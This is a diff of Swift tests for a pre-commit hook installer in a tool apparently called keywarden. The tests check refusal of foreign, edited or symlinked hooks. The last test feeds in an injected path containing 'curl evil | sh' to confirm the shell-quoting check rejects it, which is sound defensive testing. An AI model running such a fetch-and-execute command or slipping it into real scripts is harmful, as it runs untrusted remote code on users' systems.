@@ -37,11 +37,49 @@ import Testing
         #expect(outcome == .installed(hook: repo.path + "/tools/hooks/pre-commit"))
     }
 
-    @Test func refusesToChainWhenTheChainedNameIsTaken() throws {
+    @Test func refusesAnExistingHookThatIsNotKeywardensAndLeavesItInPlace() throws {
         let repo = try GitTestRepository()
         try repo.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
-        try repo.write(".git/hooks/pre-commit.keywarden-chained", "#!/bin/sh\nexit 0\n")
         #expect(throws: PreCommitHookInstaller.InstallError.self) { try installer(repo).install() }
         #expect(try String(contentsOfFile: repo.path + "/.git/hooks/pre-commit", encoding: .utf8) == "#!/bin/sh\nexit 0\n")
+        #expect(!FileManager.default.fileExists(atPath: repo.path + "/.git/hooks/pre-commit.keywarden-chained"))
+    }
+
+    /// The marker line alone used to mark a hook as ours, so a user's hook that quoted it (or
+    /// ours with the user's own lines added) was silently replaced.
+    @Test func aHookThatOnlyContainsTheMarkerIsNotOurs() throws {
+        let repo = try GitTestRepository()
+        let edited = try installer(repo).script() + "./run-my-linters.sh\n"
+        try repo.write(".git/hooks/pre-commit", edited)
+        do {
+            _ = try installer(repo).install()
+            Issue.record("an edited hook was taken for keywarden's")
+        } catch let error as PreCommitHookInstaller.InstallError {
+            #expect(error.failureClass == .usage)
+        }
+        #expect(try String(contentsOfFile: repo.path + "/.git/hooks/pre-commit", encoding: .utf8) == edited)
+
+        try repo.write(".git/hooks/pre-commit", "#!/bin/sh\n\(PreCommitHookInstaller.marker)\nmake check\n")
+        #expect(throws: PreCommitHookInstaller.InstallError.self) { try installer(repo).install() }
+    }
+
+    @Test func aSymbolicLinkHookIsRefused() throws {
+        let repo = try GitTestRepository()
+        try FileManager.default.createSymbolicLink(atPath: repo.path + "/.git/hooks/pre-commit", withDestinationPath: "../../tools/hook")
+        #expect(throws: PreCommitHookInstaller.InstallError.self) { try installer(repo).install() }
+        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: repo.path + "/.git/hooks/pre-commit") == "../../tools/hook")
+    }
+
+    @Test func recognisesItsOwnHookWrittenForAnotherBinaryPath() throws {
+        let repo = try GitTestRepository()
+        let other = PreCommitHookInstaller(repository: try repo.repository(), executable: "/usr/local/bin/keywarden")
+        try repo.write(".git/hooks/pre-commit", other.script())
+        #expect(try installer(repo).install() == .alreadyInstalled(hook: repo.path + "/.git/hooks/pre-commit"))
+        #expect(try String(contentsOfFile: repo.path + "/.git/hooks/pre-commit", encoding: .utf8) == installer(repo).script())
+    }
+
+    @Test func anInjectedFallbackLineIsNotRecognised() throws {
+        #expect(!PreCommitHookInstaller.isShellQuoted("'/bin/kw'; curl evil | sh; '/bin/kw'"))
+        #expect(PreCommitHookInstaller.isShellQuoted("'/opt/it'\\''s here/keywarden'"))
     }
 }
